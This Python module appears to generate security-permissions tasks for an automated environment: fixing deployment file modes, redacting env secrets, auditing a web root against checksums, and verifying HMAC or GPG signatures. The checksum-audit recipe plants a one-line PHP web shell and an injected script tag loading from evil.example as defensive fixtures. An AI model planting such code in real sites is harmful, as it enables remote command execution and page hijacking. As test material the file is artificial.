"""security-permissions families: lock down a deployment folder's modes; redact secrets from an
environment file; audit a web root against its checksums; verify HMAC-signed files with openssl."""
from __future__ import annotations

import hashlib
import hmac
import re

from .base import Artifact, Check, Fragment, Recipe, StepContext, describe, register, stem_of
from .formats import render_lines
from .seeds import PRODUCTS, seed_any


def _lockdown_build(ctx: StepContext, a: Artifact) -> Fragment:
    rng = ctx.rng
    root = ctx.claim(rng.choice(["/app/deploy", "/app/release-staging", "/app/srv-deploy"]))
    prod = rng.choice(PRODUCTS)
    seeded = {"run.sh": f"#!/bin/sh\nexec /usr/bin/env {prod}-server --config config/app.env\n",
              "config/app.env": f"DB_PASSWORD={rng.getrandbits(64):016x}\nPORT={rng.randint(8000, 9000)}\n",
              "public/index.html": f"<h1>{prod}</h1>\n", "public/style.css": "h1 { color: teal; }\n",
              "README.txt": "Deployment folder. Keep secrets private.\n"}
    for rel, text in seeded.items():
        ctx.add_input(f"{root}/{rel}", text)
    # Start from a sloppy state: secrets world-readable and writable, the script not executable.
    ctx.docker_run.append(f"chmod 0666 {root}/config/app.env && chmod 0777 {root}/public/style.css {root}/public "
                          f"&& chmod 0644 {root}/run.sh")
    private = f"{root}/private"
    name = a.basename
    copied = [f"private/{name}/{rel}" for rel in a.names()] if a.kind == "tree" else [f"private/{name}"]
    modes = {"run.sh": "750", "config/app.env": "600", "public/index.html": "644", "public/style.css": "644",
             "README.txt": "644"}
    modes.update({p: "600" for p in copied})
    listing = ctx.claim(f"/app/out/{stem_of(a)}_deploy_modes.txt")
    expected = [f"{modes[p]} {p}" for p in sorted(modes)]
    checks = [
        Check(f"Copy `{a.path}` to `{private}/{name}`.",
              [("copied", f"assert same_files({private + '/' + name!r}, {a.path!r})")]),
        Check(f"Give `{private}` and every folder inside it mode 0700 and every file inside it mode 0600.",
              [("private", f"assert mode_of({private!r}) == 0o700\nfor p in Path({private!r}).rglob('*'):\n"
                           f"    assert mode_of(p) == (0o700 if p.is_dir() else 0o600), (p, oct(mode_of(p)))")]),
        Check(f"Make `{root}/run.sh` executable by its owner and group only, with mode 0750.",
              [("script", f"assert mode_of({root + '/run.sh'!r}) == 0o750")]),
        Check(f"Restrict `{root}/config/app.env` to mode 0600.",
              [("secrets", f"assert mode_of({root + '/config/app.env'!r}) == 0o600")]),
        Check(f"Give `{root}/public` mode 0755 and every file in it mode 0644.",
              [("public", f"assert mode_of({root + '/public'!r}) == 0o755\nfor p in Path({root + '/public'!r}).iterdir():\n"
                          f"    assert mode_of(p) == 0o644, p")]),
        Check(f"Leave nothing under `{root}` writable by others.",
              [("world", f"for p in [Path({root!r}), *Path({root!r}).rglob('*')]:\n    assert not mode_of(p) & 0o002, p")]),
        Check(f"Write `{listing}` with one line per regular file under `{root}` giving its three-digit octal mode, a space "
              f"and its path relative to `{root}`, sorted by path.",
              [("listing", f"assert read_lines({listing!r}) == {expected!r}")]),
    ]
    solve = f"""mkdir -p {private} /app/out
cp -r {a.path} {private}/{name}
chmod 0700 {private}
find {private} -mindepth 1 -type d -exec chmod 0700 {{}} +
find {private} -type f -exec chmod 0600 {{}} +
chmod 0750 {root}/run.sh
chmod 0600 {root}/config/app.env
chmod 0755 {root}/public
chmod 0644 {root}/public/*
(cd {root} && find . -type f -printf '%m %P\\n' | sort -k2) > {listing}"""
    intro = (f"`{root}` holds a service about to be deployed; its file modes are sloppy. "
             f"Put {describe(a)} into its private area and fix the modes.")
    return Fragment("Lock down the deployment folder", intro, checks, solve, a.moved(f"{private}/{name}"))


register(Recipe("permissions-lockdown", "security-permissions", "Lock down file modes", lambda a: True, seed_any,
                _lockdown_build, weight=2, universal=True, consumes="any", kinds=("file-permissions",)))


# --- secret-redact ----------------------------------------------------------------------------

SECRET_RE = re.compile(r"^([A-Z0-9_]*(PASSWORD|SECRET|TOKEN)[A-Z0-9_]*|[A-Z0-9_]*_KEY)=")


def seed_env(ctx: StepContext) -> Artifact:
    rng = ctx.rng
    hexv = lambda n: f"{rng.getrandbits(4 * n):0{n}x}"   # noqa: E731
    pairs = [("APP_NAME", rng.choice(PRODUCTS)), ("PORT", str(rng.randint(3000, 9000))), ("DB_HOST", "db.internal"),
             ("DB_PASSWORD", hexv(16)), ("STRIPE_SECRET", "sk_live_" + hexv(20)), ("API_KEY", hexv(24)),
             ("SESSION_TOKEN_TTL", str(rng.choice([900, 3600]))), ("PUBLIC_KEY_PATH", "/etc/ssl/certs/service.pem"),
             ("LOG_LEVEL", rng.choice(["info", "debug"])), ("GITHUB_TOKEN", "ghp_" + hexv(20)),
             ("CACHE_URL", "redis://cache:6379/0"), ("SIGNING_KEY", hexv(32)), ("KEYCLOAK_REALM", "staff")]
    pairs = rng.sample(pairs, rng.randint(9, len(pairs)))
    lines = ["# service configuration"]
    for i, (k, v) in enumerate(pairs):
        if i and rng.random() < 0.2:
            lines.append(f"# {k.split('_')[0].lower()} settings")
        lines.append(f"{k}={v}")
    path = ctx.claim(f"/app/input/{rng.choice(['service', 'app', 'prod', 'backend'])}.env")
    ctx.add_input(path, render_lines(lines))
    return Artifact("lines", path, fmt="txt", lines=tuple(lines), flavor="env", label="service")


def _redact_build(ctx: StepContext, a: Artifact) -> Fragment:
    out_path = ctx.claim(f"/app/out/{stem_of(a)}.redacted.env")
    keys_path = ctx.claim(f"/app/out/{stem_of(a)}_redacted_keys.txt")
    red, keys, secrets = [], [], []
    for line in a.lines:
        m = SECRET_RE.match(line)
        if m:
            red.append(f"{m.group(1)}=REDACTED")
            keys.append(m.group(1))
            if line.split("=", 1)[1] != "REDACTED":
                secrets.append(line.split("=", 1)[1])
        else:
            red.append(line)
    nonblank = [x for x in red if x.strip()]
    checks = [
        Check(f"Write `{out_path}` as a copy of `{a.path}` in which the value of every variable whose name contains "
              f"`PASSWORD`, `SECRET` or `TOKEN` or ends with `_KEY` is replaced by `REDACTED`.",
              [("redacted", f"lines = read_lines({out_path!r})\nfor k in {keys!r}:\n    assert k + '=REDACTED' in lines, k")]),
        Check(f"Keep every other line of `{a.path}`, comments included, unchanged and in the same order in `{out_path}`.",
              [("kept", f"assert read_lines({out_path!r}) == {nonblank!r}")]),
        Check(f"Make sure no secret value from `{a.path}` appears anywhere in `{out_path}`.",
              [("no_leak", f"text = read_text({out_path!r})\nassert text.strip()\nfor s in {secrets!r}:\n    assert s not in text")]),
        Check(f"Write `{keys_path}` listing the names of the redacted variables, sorted, one per line.",
              [("keys", f"assert read_lines({keys_path!r}) == {sorted(keys)!r}")]),
    ]
    rx = r"^([A-Z0-9_]*(PASSWORD|SECRET|TOKEN)[A-Z0-9_]*|[A-Z0-9_]*_KEY)="
    solve = (f"mkdir -p /app/out\nsed -E 's/{rx}.*/\\1=REDACTED/' {a.path} > {out_path}\n"
             f"grep -oE '{rx}' {a.path} | sed 's/=$//' | sort > {keys_path}")
    out = Artifact("lines", out_path, fmt="txt", lines=tuple(red), flavor="env", label=f"{a.label}_redacted")
    return Fragment("Redact secrets", f"{describe(a)[0].upper()}{describe(a)[1:]} is about to be shared with another team.",
                    checks, solve, out)


register(Recipe("secret-redact", "security-permissions", "Redact secrets",
                lambda a: a.kind == "lines" and a.flavor == "env" and a.exact and any(
                    SECRET_RE.match(x) and not x.endswith("=REDACTED") for x in a.lines), seed_env, _redact_build,
                weight=1, consumes="env file", kinds=("config-file",)))


# --- checksum-audit ----------------------------------------------------------------------------

def _audit_build(ctx: StepContext, a: Artifact) -> Fragment:
    import hashlib
    rng = ctx.rng
    root = ctx.claim(rng.choice(["/app/site", "/app/webroot", "/app/public_html"]))
    quarantine = ctx.claim(rng.choice(["/app/quarantine", "/app/suspect", "/app/isolated"]))
    prod = rng.choice(PRODUCTS)
    pages = {"index.html": f"<h1>{prod}</h1>\n", "about.html": f"<p>About {prod}</p>\n",
             "js/app.js": f"console.log('{prod} {rng.randint(1, 99)}');\n", "js/vendor.js": "/* vendor bundle */\n",
             "css/site.css": "body { margin: 0; }\n", "robots.txt": "User-agent: *\nDisallow:\n",
             "img/logo.svg": f"<svg><title>{prod}</title></svg>\n"}
    listed = sorted(pages)
    sums = "".join(f"{hashlib.sha256(pages[n].encode()).hexdigest()}  {n}\n" for n in listed)
    modified = sorted(rng.sample([n for n in listed if n != "index.html"], rng.randint(1, 2)))
    missing = rng.choice([n for n in listed if n not in modified and n != "index.html"])
    unlisted = rng.choice(["js/.cache.php", "img/shell.php", "uploads/x.phtml"])
    ctx.add_input(f"{root}/SHA256SUMS", sums)
    for n in listed:
        if n == missing:
            continue
        body = pages[n] + (f"<script src=//evil.example/{rng.randint(1, 999)}.js></script>\n" if n in modified else "")
        ctx.add_input(f"{root}/{n}", body)
    ctx.add_input(f"{root}/{unlisted}", "<?php system($_GET['c']); ?>\n")
    status = {n: "ok" for n in listed}
    status.update({n: "modified" for n in modified})
    status[missing] = "missing"
    status[unlisted] = "unlisted"
    rows = [[n, status[n]] for n in sorted(status)]
    report = ctx.claim(f"/app/out/{stem_of(a)}_integrity.csv")
    name = a.basename
    added = [f"data/{name}/{r}" for r in a.names()] if a.kind == "tree" else [f"data/{name}"]
    remaining = sorted([n for n in listed if status[n] == "ok"] + added)
    moved = sorted(modified + [unlisted])
    checks = [
        Check(f"Write `{report}` as a CSV file with the header `file,status` and one row per file that `{root}/SHA256SUMS` "
              f"lists or that exists under `{root}` (paths relative to `{root}`, ignoring `SHA256SUMS` itself), where "
              f"`status` is `ok`, `modified` (digest differs), `missing` (listed but absent) or `unlisted` (present but "
              f"not listed), ordered by `file` ascending.",
              [("report", f"cols, rows = read_table({report!r})\nassert cols == ['file', 'status']\n"
                          f"check_rows(rows, cols, {rows!r})")]),
        Check(f"Move every `modified` or `unlisted` file into `{quarantine}`, keeping its path relative to `{root}`.",
              [("quarantine", f"assert files_under({quarantine!r}) == {moved!r}\n"
                              f"for n in {moved!r}:\n    assert not (Path({root!r}) / n).exists(), n")]),
        Check(f"Copy `{a.path}` to `{root}/data/{name}`.",
              [("copied", f"assert same_files({root + '/data/' + name!r}, {a.path!r})")]),
        Check(f"Finally rewrite `{root}/SHA256SUMS` in `sha256sum` format so that it lists every file now under "
              f"`{root}` except itself, with paths relative to `{root}`, sorted by path.",
              [("manifest", f"lines = read_lines({root + '/SHA256SUMS'!r})\n"
                            f"names = [l.split(None, 1)[1].lstrip('*') for l in lines]\nassert names == {remaining!r}, names\n"
                            f"for l in lines:\n    d, n = l.split(None, 1)\n    assert sha256_of(Path({root!r}) / n.lstrip('*')) == d, n")]),
    ]
    solve = f"""mkdir -p /app/out {quarantine}
python3 - <<'PY'
import csv, hashlib, os
root, quarantine = {root!r}, {quarantine!r}
listed = {{}}
for line in open(os.path.join(root, "SHA256SUMS")):
    d, n = line.split(None, 1)
    listed[n.strip().lstrip("*")] = d
present = sorted(os.path.relpath(os.path.join(dp, f), root) for dp, _, fs in os.walk(root) for f in fs)
present = [p for p in present if p != "SHA256SUMS"]
status = {{}}
for n, d in listed.items():
    p = os.path.join(root, n)
    status[n] = "missing" if not os.path.isfile(p) else (
        "ok" if hashlib.sha256(open(p, "rb").read()).hexdigest() == d else "modified")
for n in present:
    status.setdefault(n, "unlisted")
with open({report!r}, "w", newline="") as fh:
    w = csv.writer(fh, lineterminator="\\n")
    w.writerow(["file", "status"])
    w.writerows(sorted(status.items()))
for n, s in status.items():
    if s in ("modified", "unlisted"):
        os.makedirs(os.path.dirname(os.path.join(quarantine, n)), exist_ok=True)
        os.rename(os.path.join(root, n), os.path.join(quarantine, n))
PY
mkdir -p {root}/data
cp -r {a.path} {root}/data/{name}
(cd {root} && find . -type f ! -path ./SHA256SUMS | sed 's|^\\./||' | sort | xargs -d '\\n' sha256sum > /tmp/SHA256SUMS && mv /tmp/SHA256SUMS SHA256SUMS)"""
    intro = (f"The web root `{root}` may have been tampered with; `{root}/SHA256SUMS` was written at the last good "
             f"deploy. Audit it, then publish {describe(a)} there.")
    return Fragment("Audit the web root against its checksums", intro, checks, solve,
                    a.moved(f"{root}/data/{name}"))


register(Recipe("checksum-audit", "security-permissions", "Audit files against a checksum manifest", lambda a: True,
                seed_any, _audit_build, weight=2, universal=True, consumes="any", kinds=("checksum-manifest", "directory-tree")))


# --- signed-drop-verify --------------------------------------------------------------------------
# A drop folder whose sender signs each file: with HMAC-SHA256 under a shared key (openssl dgst
# -hmac; the tests recompute it with Python's hmac), or, for a gpg skill, with detached GnuPG
# signatures made at image build time (the signing keys are deleted there, only the public key is
# left; the statuses are fixed by how the image signs, so the tests need no gpg).

DROP_NAMES = ["invoice-0412.csv", "orders.json", "stock.txt", "prices.csv", "manifest.ini", "notes.md", "release.txt",
              "customers.csv"]
EDIT = "# edited after signing\n"
_GEN_KEY = "gpg --batch --quiet --passphrase '' --quick-gen-key 'Release Team <release@example.test>' ed25519 sign never"


def seed_signed_drop(ctx: StepContext) -> Artifact:
    rng = ctx.rng
    how = ctx.pick(["gpg", "hmac"], {"hmac": {"openssl"}, "gpg": {"gpg", "gpgv"}})
    root = ctx.claim(rng.choice(["/app/incoming", "/app/drop", "/app/inbox"]))
    keyfile = ctx.claim(rng.choice(["/app/keys/drop", "/app/secrets/partner", "/app/keys/partner"])
                        + (".key" if how == "hmac" else ".asc"))
    prod = rng.choice(PRODUCTS)
    names = sorted(rng.sample(DROP_NAMES, rng.randint(6, 8)))   # 3 go wrong; 3+ valid files go on
    bodies = {n: f"{prod} {n} {rng.randint(1000, 99999)}\n" * rng.randint(1, 4) for n in names}
    tampered, forged, unsigned = rng.sample(names, 3)
    if how == "hmac":
        key = f"{rng.getrandbits(128):032x}"
        lines = []
        for n in names:
            if n != unsigned:
                sig_key = f"{rng.getrandbits(128):032x}" if n == forged else key
                lines.append(f"{hmac.new(sig_key.encode(), bodies[n].encode(), hashlib.sha256).hexdigest()}  {n}\n")
        ctx.add_input(f"{root}/SIGNATURES", "".join(lines))
        ctx.add_input(keyfile, key + "\n")
    signed = [n for n in names if n not in (unsigned, forged)]
    for n in names:
        ctx.add_input(f"{root}/{n}", bodies[n] + (EDIT if n == tampered and how == "hmac" else ""))
    if how == "gpg":
        # forged: a look-alike key with the same user id, which the public key file does not hold
        ctx.docker_run.append(
            f"export GNUPGHOME=/tmp/wb-sign && mkdir -m 700 -p /tmp/wb-sign /tmp/wb-forge && {_GEN_KEY} "
            f"&& GNUPGHOME=/tmp/wb-forge {_GEN_KEY} && mkdir -p {keyfile.rsplit('/', 1)[0]} "
            f"&& gpg --armor --export > {keyfile} "
            f"&& for f in {' '.join(signed)}; do gpg --batch --detach-sign -o {root}/$f.sig {root}/$f; done "
            f"&& GNUPGHOME=/tmp/wb-forge gpg --batch --detach-sign -o {root}/{forged}.sig {root}/{forged} "
            f"&& printf '{EDIT.strip()}\\n' >> {root}/{tampered} && gpgconf --kill all "
            f"&& GNUPGHOME=/tmp/wb-forge gpgconf --kill all && rm -rf /tmp/wb-sign /tmp/wb-forge")
    status = {n: "unsigned" if n == unsigned else "bad-signature" if n in (tampered, forged) else "valid" for n in names}
    return Artifact("tree", root, fmt=how, flavor="signed-drop", label="drop",
                    files=tuple((n, (bodies[n] + (EDIT if n == tampered else "")).encode()) for n in names),
                    lines=(keyfile, *(f"{n}\t{status[n]}" for n in names)))


def _signed_drop_build(ctx: StepContext, a: Artifact) -> Fragment:
    rng = ctx.rng
    root, keyfile = a.path, a.lines[0]
    status = dict(x.split("\t") for x in a.lines[1:])
    verified = ctx.claim(rng.choice(["/app/verified", "/app/accepted", "/app/trusted"]))
    report = ctx.claim(f"/app/out/{rng.choice(['signatures', 'signature_check', 'drop_verification'])}.csv")
    rows = [[n, status[n]] for n in sorted(status)]
    kept = tuple((n, d) for n, d in a.files if status[n] == "valid")
    digests = {n: hashlib.sha256(d).hexdigest() for n, d in kept}
    if a.fmt == "hmac":
        rule = (f"one row per file in `{root}` other than `SIGNATURES`, where `status` is `valid` when the file's "
                f"HMAC-SHA256 under the key in `{keyfile}` (its text without the line ending) equals the hex digest "
                f"`{root}/SIGNATURES` gives for it, `bad-signature` when it differs and `unsigned` when the file is "
                f"not listed")
        solve = f"""mkdir -p {verified} /app/out
key=$(cat {keyfile})
echo file,status > {report}
for f in $(ls {root} | grep -v '^SIGNATURES$' | sort); do
  want=$(awk -v n="$f" '$2 == n {{print $1}}' {root}/SIGNATURES)
  got=$(openssl dgst -sha256 -hmac "$key" "{root}/$f" | awk '{{print $NF}}')
  if [ -z "$want" ]; then s=unsigned
  elif [ "$got" = "$want" ]; then s=valid; cp "{root}/$f" {verified}/
  else s=bad-signature; fi
  echo "$f,$s" >> {report}
done"""
    else:
        rule = (f"one row per file in `{root}` that is not a `.sig` file, where `status` is `valid` when its detached "
                f"signature `<file>.sig` verifies with the public key in `{keyfile}` and no other key, `bad-signature` "
                f"when it does not and `unsigned` when there is no `.sig` file")
        solve = f"""mkdir -p {verified} /app/out
export GNUPGHOME=$(mktemp -d)
gpg --batch --quiet --import {keyfile}
echo file,status > {report}
for f in $(ls {root} | grep -v '\\.sig$' | sort); do
  if [ ! -e "{root}/$f.sig" ]; then s=unsigned
  elif gpg --batch --quiet --verify "{root}/$f.sig" "{root}/$f" 2>/dev/null; then s=valid; cp "{root}/$f" {verified}/
  else s=bad-signature; fi
  echo "$f,$s" >> {report}
done
gpgconf --kill all"""
    checks = [
        Check(f"Write `{report}` as a CSV file with the header `file,status` and {rule}, ordered by `file`.",
              [("report", f"cols, rows = read_table({report!r})\nassert cols == ['file', 'status']\n"
                          f"check_rows(rows, cols, {rows!r})")]),
        Check(f"Copy exactly the `valid` files into `{verified}`, unchanged.",
              [("verified", f"assert files_under({verified!r}) == {sorted(digests)!r}\n"
                            f"for n, d in {digests!r}.items():\n    assert sha256_of(Path({verified!r}) / n) == d, n")]),
    ]
    kind = "HMAC-SHA256 signatures" if a.fmt == "hmac" else "detached GnuPG signatures"
    intro = rng.choice([f"A partner drops files in `{root}` and signs each one ({kind}).",
                        f"Files in `{root}` come with {kind}; some were altered or never signed.",
                        f"Before anything in `{root}` is used, its {kind} must be checked."])
    title = rng.choice(["Verify the signed drop", "Check the signatures", "Accept only signed files"])
    return Fragment(title, intro, checks, solve, Artifact("tree", verified, fmt="dir", files=kept, label="verified"))


register(Recipe("signed-drop-verify", "security-permissions", "Verify signed files with openssl HMAC or gpg",
                lambda a: a.kind == "tree" and a.flavor == "signed-drop", seed_signed_drop, _signed_drop_build,
                weight=2, consumes="its own signed drop folder (starts a path)", tools=("openssl", "gpg"),
                kinds=("checksum-manifest", "gpg-key", "directory-tree")))
